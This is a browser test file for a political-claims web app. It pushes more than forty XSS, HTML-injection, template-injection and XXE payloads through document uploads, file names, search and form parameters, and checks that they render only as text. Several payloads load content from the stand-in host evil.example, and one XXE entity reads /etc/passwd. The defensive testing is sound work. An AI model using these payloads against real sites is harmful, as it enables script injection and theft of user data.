"""Words from documents, addresses and forms are never markup: more than forty payloads through every text field, in Chromium."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import urlencode

import pytest

pytestmark = pytest.mark.browser

RUN = "document.title='owned'"
PAYLOADS: tuple[str, ...] = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</option></select><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script src='data:text/javascript,document.title=1'></script>",
    f'<img src=x onerror="{RUN}">',
    f'"><img src=x onerror="{RUN}">',
    f'\'><img src=x onerror="{RUN}">',
    f"<img src=x onerror={RUN}//",
    f'<img/src="x"/onerror="{RUN}">',
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<body onload={RUN}>",
    f'<details open ontoggle="{RUN}">',
    f'<input autofocus onfocus="{RUN}">',
    f'<video><source onerror="{RUN}"></video>',
    f'<a href="javascript:{RUN}">x</a>',
    f"[x](javascript:{RUN})",
    f"javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button autofocus>x</button></form>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}",
    f"`-{RUN}-`",
    "{{7*7}}{% raw %}{{config}}",
    "${7*7}#{7*7}<%= 7*7 %>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\u202e<script>{RUN}</script>\u2066",
    f'<div hx-get=/add hx-trigger=load hx-on:htmx:load="{RUN}">',
    f'<button data-submit data-mirror="x" onclick="{RUN}">x</button>',
    "]]>--><!--<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
)
ACTORS_A_RUN = 12
WHY = "/state/KGZ/why?since=2024-04&until=2024-05"


def _clean(page: Any) -> None:
    assert page.evaluate("document.title") != "owned"
    assert page.evaluate("document.baseURI").startswith("http://127.0.0.1")
    assert page.locator("main iframe, main object, main embed, main link, main style, main base").count() == 0
    assert page.wrong == []


@pytest.fixture(scope="module")
def poisoned(browser: Any, served: Any) -> list[str]:
    """The addresses of documents whose text, title, outlet, author, id and file name are payloads."""
    rows = [
        {"id": payload, "title": payload, "source": payload, "author": payload, "date": "2024-05-01"}
        | {
            "text": f"{payload} Kyrgyzstan is a member of the CSTO, said {payload}. “{payload} is refuted,” he said."
            f"\n\nBecause of {payload} Kyrgyzstan turned away from Russia."
        }
        for payload in PAYLOADS
    ]
    lines = "\n".join(json.dumps(row) for row in rows).encode()
    named = [
        {"name": f"{payload[:60]}.txt", "mimeType": "text/plain", "buffer": f"Uzbekistan and {n} visits.".encode()}
        for n, payload in enumerate(PAYLOADS[:12])
    ]
    page = browser.new_context().new_page()
    page.goto(f"{served.base}/?token={served.token}")
    page.goto(served.at("/add"))
    if page.locator("fieldset").count():
        page.get_by_label("scientific research").check()
    page.set_input_files("#files", [{"name": "all.jsonl", "mimeType": "application/jsonl", "buffer": lines}, *named])
    page.get_by_role("button", name="Read them").click()
    page.wait_for_selector("text=Done:", timeout=240_000)
    found = page.locator("#progress .list a").evaluate_all("(links) => links.map((link) => link.getAttribute('href'))")
    page.context.close()
    assert len(found) >= len(PAYLOADS)
    return list(found)


def test_documents_of_payloads_are_words(opened: Any, served: Any, poisoned: list[str]) -> None:
    """Every such document, and every page that lists them."""
    assert len(PAYLOADS) >= 40
    for path in (
        *poisoned,
        "/",
        "/documents",
        "/claims",
        "/sources",
        "/state/KGZ",
        "/timeline",
        "/claims?sort=speaker",
        WHY,
    ):
        opened.goto(served.base + path)
        _clean(opened)


def test_causes_of_payloads_are_words(opened: Any, served: Any, poisoned: list[str]) -> None:
    """Causes that such texts give stand in quotation marks, every fold opened, beside the picture."""
    assert poisoned
    opened.goto(served.base + WHY)
    opened.locator("figure[data-drawn=yes]").first.wait_for()
    for fold in opened.locator("main details > summary").all():
        if fold.is_visible():
            fold.click()
    assert opened.locator(".rival h3 q").count() >= len(PAYLOADS) // 2
    _clean(opened)


def test_searched_payloads_are_words(opened: Any, served: Any, poisoned: list[str]) -> None:
    """What is asked for comes back as a word of the page, never as a part of it."""
    assert poisoned
    for payload in PAYLOADS:
        opened.goto(f"{served.base}/claims?{urlencode({'q': payload, 'speaker': payload, 'entity': payload})}")
        _clean(opened)


def test_names_of_what_ifs_and_decisions_are_words(opened: Any, served: Any) -> None:
    """Titles and the ends of a scale, typed or in a link."""
    for payload in PAYLOADS:
        opened.goto(f"{served.base}/scenario?{urlencode({'title': payload})}")
        _clean(opened)
        opened.goto(
            f"{served.base}/decision?{urlencode({'title': payload, 'low_means': payload, 'high_means': payload})}"
        )
        _clean(opened)


def test_actors_of_a_decision_are_words(opened: Any, served: Any) -> None:
    """Read and drawn, with every payload as an actor's name."""
    for first in range(0, len(PAYLOADS), ACTORS_A_RUN):
        names = [payload.replace("\t", " ") for payload in PAYLOADS[first : first + ACTORS_A_RUN]]
        actors = [("actor", f"~1~{10 * n}~0.5~{name}") for n, name in enumerate(names)]
        opened.goto(f"{served.base}/decision?{urlencode([('high', '200'), ('low_means', names[0]), *actors])}")
        opened.locator("#readings").wait_for(timeout=120_000)
        opened.locator("figure[data-drawn=yes]").first.wait_for()
        _clean(opened)


def test_a_what_if_with_a_payload_is_played(opened: Any, served: Any) -> None:
    """From the form to the result, the file and its pictures."""
    fields = {"title": PAYLOADS[0], "start": "2026-01", "months": "12", "runs": "100", "states": "KGZ"}
    opened.goto(f"{served.base}/scenario?{urlencode({**fields, 'shock': 'bloc_left~KGZ~~CSTO~0~2026-03~'})}")
    opened.locator("#ends").wait_for(timeout=120_000)
    opened.locator("figure[data-drawn=yes]").first.wait_for()
    _clean(opened)
